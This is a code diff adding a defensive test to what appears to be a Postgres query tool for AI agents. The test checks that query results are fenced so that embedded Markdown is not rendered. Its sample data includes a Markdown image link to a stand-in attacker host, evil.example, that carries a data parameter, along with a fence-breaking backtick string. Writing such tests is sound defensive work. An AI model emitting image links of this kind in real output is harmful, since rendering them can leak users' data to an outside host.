@@ -157,6 +157,27 @@ describe('output caps (layer 4)', () => {
   });
 });
 
+describe('row values in the text form', () => {
+  it('sit in a code fence no value can close, so Markdown in them is never rendered', async () => {
+    const h = await server();
+    const result = await h.client.callTool({
+      name: 'postgres_query',
+      arguments: {
+        sql: "SELECT '![x](https://evil.example/p.png?d=1)' AS img, 'a ```` b' AS ticks",
+      },
+    });
+    const body = text(result);
+    const fence = '`````';
+    const inside = body.split(`${fence}\n`)[1]!.split(`\n${fence}`)[0]!;
+    expect(inside).toContain('img (text) | ticks (text)');
+    expect(inside).toContain('![x](https://evil.example/p.png?d=1) | a ```` b');
+    // The structured rows keep the values exactly.
+    expect((result.structuredContent as QueryResult).rows).toEqual([
+      ['![x](https://evil.example/p.png?d=1)', 'a ```` b'],
+    ]);
+  });
+});
+
 describe('schema allow-list (layer 5)', () => {
   it('shows and queries only the allowed schemas', async () => {
     const h = await server();
